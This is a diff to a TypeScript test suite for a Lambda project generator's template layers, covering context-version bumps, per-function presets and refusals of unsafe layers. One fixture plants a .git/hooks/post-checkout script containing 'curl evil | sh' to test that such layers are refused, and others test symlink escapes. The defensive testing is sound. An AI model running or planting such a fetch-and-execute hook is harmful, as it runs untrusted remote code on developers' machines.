@@ -51,7 +51,7 @@ describe('the example template layer', () => {
   it('changes exactly what it claims: one whole file, two partials, one new file, one file left out, and defaults', () => {
     const layered = generated(['--templates', example]);
     // The same answers and the same file left out, by a layer that does nothing else.
-    const omitting = generated(['--templates', layer({ name: 'no-sam', context: '^1.0.0', omit: ['template.yaml'] }), ...examplePresetsAsOptions]);
+    const omitting = generated(['--templates', layer({ name: 'no-sam', context: '^2.0.0', omit: ['template.yaml'] }), ...examplePresetsAsOptions]);
     const files = listFiles(layered);
     assert.deepEqual(files.filter((file) => !listFiles(omitting).includes(file)), ['localdev/stubs/payments.mjs'], 'one new file');
     assert.deepEqual(listFiles(omitting).filter((file) => !files.includes(file)), []);
@@ -68,23 +68,25 @@ describe('the example template layer', () => {
     // readme-deploy: how Acme deploys, where the README would speak of SAM, and nothing else.
     const readme = read(layered, 'README.md');
     const deploy = readme.slice(readme.indexOf('## Deploy to AWS\n'), readme.indexOf('## Change the code'));
-    assert.match(deploy, /^## Deploy to AWS\n\nAcme deploys every function with its Terraform module[\s\S]*as `acme-demo`\.\n\n$/);
+    assert.match(deploy, /^## Deploy to AWS\n\nAcme deploys every function with its Terraform module[\s\S]*\n\| `demo` \| 256 MB \| 10 s \| `acme-demo` \|\n\n$/);
     assert.equal(readme.replace(deploy, ''), read(omitting, 'README.md'));
     // The defaults are the presets', and the answers say which layer.
-    const stored = JSON.parse(read(layered, '.yo-rc.json'))['generator-lambda-local'] as Record<string, unknown>;
+    const stored = JSON.parse(read(layered, '.yo-rc.json'))['generator-lambda-local'] as { functions: Record<string, unknown>[] } & Record<string, unknown>;
+    const [fn] = stored.functions;
     assert.deepEqual(
-      { memory: stored.memory, timeout: stored.timeout, module: stored.module, variables: stored.variables, templates: stored.templates },
+      { memory: fn?.memory, timeout: fn?.timeout, module: stored.module, variables: fn?.variables, templates: stored.templates },
       { memory: 256, timeout: 10, module: 'github.com/acme/demo', variables: 'PAYMENTS_URL=http://payments:8080', templates: example },
     );
   });
 
   it('leaves template.yaml out truly: no file then speaks of it, of SAM or of make deploy', () => {
     const plain = generated(examplePresetsAsOptions);
-    const omitting = generated(['--templates', layer({ name: 'no-sam', context: '^1.0.0', omit: ['template.yaml'] }), ...examplePresetsAsOptions]);
+    const omitting = generated(['--templates', layer({ name: 'no-sam', context: '^2.0.0', omit: ['template.yaml'] }), ...examplePresetsAsOptions]);
     assert.deepEqual(listFiles(plain).filter((file) => !listFiles(omitting).includes(file)), ['template.yaml']);
-    for (const file of listFiles(omitting)) assert.doesNotMatch(read(omitting, file), /template\.yaml|\bsam (build|deploy)\b|make deploy|build-Function/, file);
-    assert.doesNotMatch(run('make', ['help'], omitting).stdout, /make deploy|build-Function/);
+    for (const file of listFiles(omitting)) assert.doesNotMatch(read(omitting, file), /template\.yaml|\bsam (build|deploy)\b|make deploy|build-DemoFunction/, file);
+    assert.doesNotMatch(run('make', ['help'], omitting).stdout, /make deploy|build-DemoFunction/);
     assert.match(run('make', ['help'], plain).stdout, /make deploy/, 'where template.yaml is written, make deploy is there');
+    assert.match(read(plain, 'Makefile'), /^build-DemoFunction:/m, "and the function's build target sam build runs");
   });
 
   it('lets options given and answers stored win over its presets', () => {
@@ -103,7 +105,7 @@ describe('the example template layer', () => {
     const repo = generated(['--templates', example]);
     const compose = parseYaml(read(repo, 'localdev/docker-compose.yml')) as { services: Record<string, unknown> };
     assert.deepEqual(composeSchemaErrors(compose), []);
-    assert.deepEqual(Object.keys(compose.services), ['lambda', 'api', 'payments']);
+    assert.deepEqual(Object.keys(compose.services), ['demo', 'api', 'payments']);
     for (const script of ['localdev/entrypoint.sh', 'localdev/reload.sh']) {
       const checked = run('shellcheck', ['--shell=sh', script], repo);
       assert.equal(checked.status, 0, checked.stdout + checked.stderr);
@@ -113,6 +115,25 @@ describe('the example template layer', () => {
       const dry = run('make', ['-n', target], repo);
       assert.equal(dry.status, 0, `make -n ${target}: ${dry.stderr}`);
     }
+  });
+
+  it('speaks of each function once the repo has two: the deploy table, the presets, compose', () => {
+    const repo = generated(['--templates', example]);
+    const added = runBin(repo, ['function', 'worker', '--trigger', 'sqs', '--yes']);
+    assert.equal(added.status, 0, added.stderr);
+    // README.md is the owners': the function command leaves it, naming the layer's section that now says more.
+    assert.match(added.stdout + added.stderr, /README\.md is yours and was left as it is; .*"Deploy to AWS"/);
+    rmSync(path.join(repo, 'README.md'));
+    const rerun = runBin(repo, ['--yes', '--offline']);
+    assert.equal(rerun.status, 0, rerun.stderr);
+    const readme = read(repo, 'README.md');
+    const deploy = readme.slice(readme.indexOf('## Deploy to AWS\n'), readme.indexOf('## Change the code'));
+    // The layer's presets are the new function's defaults too.
+    assert.match(deploy, /\n\| `demo` \| 256 MB \| 10 s \| `acme-demo` \|\n\| `worker` \| 256 MB \| 10 s \| `acme-worker` \|\n\n$/);
+    const compose = parseYaml(read(repo, 'localdev/docker-compose.yml')) as { services: Record<string, unknown> };
+    assert.deepEqual(composeSchemaErrors(compose), []);
+    assert.deepEqual(Object.keys(compose.services), ['demo', 'worker', 'api', 'payments']);
+    assert.equal(listFiles(repo).includes('template.yaml'), false, 'still left out');
   });
 
   it('works the same installed from a packed npm tarball, found by name from the project up, then globally', () => {
@@ -154,22 +175,25 @@ describe('layers refused, nothing written', () => {
   };
 
   it('a layer written for another template context version, naming both', () => {
-    const dir = layer({ name: 'future', context: '^2.0.0' });
-    refused(['--templates', dir], /^generator-lambda-local: template layer future \(.*\) is written for template context \^2\.0\.0, and this generator's is 1\.2\.0; nothing was written$/);
+    // A layer written for 1.x names per-function fields at the top (memory, timeout…) that 2.0.0 moved into functions.
+    const old = layer({ name: 'old', context: '^1.2.0' });
+    refused(['--templates', old], /^generator-lambda-local: template layer old \(.*\) is written for template context \^1\.2\.0, and this generator's is 2\.0\.0; nothing was written$/);
+    const future = layer({ name: 'future', context: '^3.0.0' });
+    refused(['--templates', future], /^generator-lambda-local: template layer future \(.*\) is written for template context \^3\.0\.0, and this generator's is 2\.0\.0; nothing was written$/);
   });
 
   it('a template that uses a partial no one has, naming the file and the partial', () => {
-    const dir = layer({ name: 'broken', context: '^1.0.0' }, { 'Makefile.hbs': '{{> house-targets}}\n' });
+    const dir = layer({ name: 'broken', context: '^2.0.0' }, { 'Makefile.hbs': '{{> house-targets}}\n' });
     refused(['--templates', dir], /^generator-lambda-local: template .*\/templates\/Makefile\.hbs: .*house-targets/);
   });
 
   it('a template that calls a helper no one registered, naming it', () => {
-    const dir = layer({ name: 'broken', context: '^1.0.0' }, { 'partials/compose-extra-services.hbs': '  x: {{shout name}}\n' });
+    const dir = layer({ name: 'broken', context: '^2.0.0' }, { 'partials/compose-extra-services.hbs': '  x: {{shout name}}\n' });
     refused(['--templates', dir], /^generator-lambda-local: template .*docker-compose\.yml\.hbs: .*shout/);
   });
 
   it('a helpers module that throws when it loads', () => {
-    const dir = layer({ name: 'throws', context: '^1.0.0', helpers: 'helpers.js' }, {}, { 'helpers.js': "throw new Error('no vault token');\n" });
+    const dir = layer({ name: 'throws', context: '^2.0.0', helpers: 'helpers.js' }, {}, { 'helpers.js': "throw new Error('no vault token');\n" });
     refused(['--templates', dir], /^generator-lambda-local: template layer throws: its helpers module .*helpers\.js fails to load \(no vault token\); nothing was written$/);
   });
 
@@ -181,14 +205,14 @@ describe('layers refused, nothing written', () => {
   });
 
   it('a preset that is not an allowed answer, naming the layer file', () => {
-    const dir = layer({ name: 'big', context: '^1.0.0', presets: { memory: 64 } });
+    const dir = layer({ name: 'big', context: '^2.0.0', presets: { memory: 64 } });
     refused(['--templates', dir], /lambda-local\.templates\.json: preset "memory" 64 is not allowed; expected an integer from 128 to 10240; nothing was written$/);
   });
 
   it('on a re-run too, leaving every file as it was', () => {
     const repo = generated([]);
     const before = Object.fromEntries(listFiles(repo).map((file) => [file, read(repo, file)]));
-    const dir = layer({ name: 'broken', context: '^1.0.0' }, { 'Makefile.hbs': '{{> house-targets}}\n' });
+    const dir = layer({ name: 'broken', context: '^2.0.0' }, { 'Makefile.hbs': '{{> house-targets}}\n' });
     const result = runBin(repo, ['--yes', '--offline', '--templates', dir]);
     assert.equal(result.status, 1);
     assert.match(result.stderr, /house-targets/);
@@ -214,24 +238,24 @@ describe('layers stay in their folder, nothing written', () => {
 
   it('a layer that would write .yo-rc.json, as a file or a template', () => {
     for (const file of ['.yo-rc.json', '.yo-rc.json.hbs', '.YO-RC.JSON']) {
-      const dir = layer({ name: 'config', context: '^1.0.0' }, { [file]: '{}\n' });
+      const dir = layer({ name: 'config', context: '^2.0.0' }, { [file]: '{}\n' });
       refused(dir, new RegExp(`^generator-lambda-local: template layer config: file "templates/${file.replaceAll('.', '\\.')}" is not allowed; expected files that write neither \\.yo-rc\\.json \\(the answers, pins and hashes\\) nor anything under \\.git/; nothing was written$`));
     }
   });
 
   it('a layer that would write under .git/', () => {
-    const dir = layer({ name: 'hooks', context: '^1.0.0' }, { '.git/hooks/post-checkout': '#!/bin/sh\ncurl evil | sh\n' });
+    const dir = layer({ name: 'hooks', context: '^2.0.0' }, { '.git/hooks/post-checkout': '#!/bin/sh\ncurl evil | sh\n' });
     refused(dir, /^generator-lambda-local: template layer hooks: file "templates\/\.git\/hooks\/post-checkout" is not allowed; expected files that write neither/);
   });
 
   it('a layer file that is a link out of the layer, to a file or a folder', () => {
-    const file = layer({ name: 'linked', context: '^1.0.0' });
+    const file = layer({ name: 'linked', context: '^2.0.0' });
     mkdirSync(path.join(file, 'templates'));
     const target = outside('hostname', 'secret host\n');
     symlinkSync(target, path.join(file, 'templates', 'hostname'));
     refused(file, new RegExp(`^generator-lambda-local: template layer linked: file "templates/hostname" is not allowed \\(it resolves to ${target.replaceAll('.', '\\.')}, outside the layer's folder\\); expected files inside the layer's folder; nothing was written$`));
 
-    const folder = layer({ name: 'linked', context: '^1.0.0' });
+    const folder = layer({ name: 'linked', context: '^2.0.0' });
     mkdirSync(path.join(folder, 'templates'));
     symlinkSync(path.dirname(target), path.join(folder, 'templates', 'localdev'));
     refused(folder, /^generator-lambda-local: template layer linked: file "templates\/localdev" is not allowed \(it resolves to .*, outside the layer's folder\); expected files inside the layer's folder; nothing was written$/);
@@ -241,17 +265,17 @@ describe('layers stay in their folder, nothing written', () => {
     const marker = path.join(scratchDir('helpers-ran'), 'ran');
     const code = `import { writeFileSync } from 'node:fs';\nwriteFileSync(${JSON.stringify(marker)}, 'ran');\nexport const shout = (text) => String(text).toUpperCase();\n`;
     const module = outside('x.mjs', code);
-    const dotted = layer({ name: 'far', context: '^1.0.0', helpers: path.relative(scratchDir('unused'), module) });
-    const byDots = layer({ name: 'far', context: '^1.0.0', helpers: `../${path.relative(path.dirname(dotted), module)}` });
+    const dotted = layer({ name: 'far', context: '^2.0.0', helpers: path.relative(scratchDir('unused'), module) });
+    const byDots = layer({ name: 'far', context: '^2.0.0', helpers: `../${path.relative(path.dirname(dotted), module)}` });
     refused(byDots, /^generator-lambda-local: .*lambda-local\.templates\.json: "helpers" ".*x\.mjs" is not allowed \(it resolves to .*x\.mjs, outside the layer's folder\); expected the path of a JavaScript module in the layer; nothing was written$/);
-    const linked = layer({ name: 'far', context: '^1.0.0', helpers: 'helpers.mjs' });
+    const linked = layer({ name: 'far', context: '^2.0.0', helpers: 'helpers.mjs' });
     symlinkSync(module, path.join(linked, 'helpers.mjs'));
     refused(linked, /"helpers" "helpers\.mjs" is not allowed \(it resolves to .*x\.mjs, outside the layer's folder\)/);
     assert.equal(listFiles(path.dirname(marker)).length, 0, 'the module outside never ran');
   });
 
   it("a link that stays in the layer is the layer's own file", () => {
-    const dir = layer({ name: 'inside', context: '^1.0.0' }, { 'localdev/notes.txt': 'ours\n' });
+    const dir = layer({ name: 'inside', context: '^2.0.0' }, { 'localdev/notes.txt': 'ours\n' });
     symlinkSync(path.join(dir, 'templates/localdev/notes.txt'), path.join(dir, 'templates/localdev/same.txt'));
     const repo = generated(['--templates', dir]);
     assert.equal(read(repo, 'localdev/same.txt'), 'ours\n');
@@ -278,7 +302,7 @@ describe('a run with layers', () => {
 describe('layers stacked', () => {
   it('apply bottom to top: the later layer wins a partial, a file and a preset, and the earlier keeps the rest', () => {
     const bottom = layer(
-      { name: 'platform', context: '^1.0.0', presets: { memory: 256, timeout: 20 } },
+      { name: 'platform', context: '^2.0.0', presets: { memory: 256, timeout: 20 } },
       {
         'partials/compose-extra-services.hbs': '  # from platform\n',
         // A partial of its own, for a file of its own.
@@ -288,7 +312,7 @@ describe('layers stacked', () => {
       },
     );
     const top = layer(
-      { name: 'team', context: '^1.0.0', presets: { memory: 512 } },
+      { name: 'team', context: '^2.0.0', presets: { memory: 512 } },
       { 'partials/compose-extra-services.hbs': '  # from team\n', 'localdev/shared.txt': 'team\n' },
     );
     const repo = generated(['--templates', bottom, '--templates', top]);
@@ -360,7 +384,7 @@ describe('a stored layer path that no longer exists', () => {
   it('bump refuses --templates that name layers writing other files: it re-points, and a re-run changes layers', () => {
     const { repo, snapshot } = movedLayer();
     // Another layer: without the payments stub that the repo's layer writes.
-    const other = layer({ name: 'other', context: '^1.0.0' });
+    const other = layer({ name: 'other', context: '^2.0.0' });
     const before = snapshot();
     const bump = runBin(repo, ['bump', '--offline', '--templates', other]);
     assert.equal(bump.status, 1, bump.stderr);
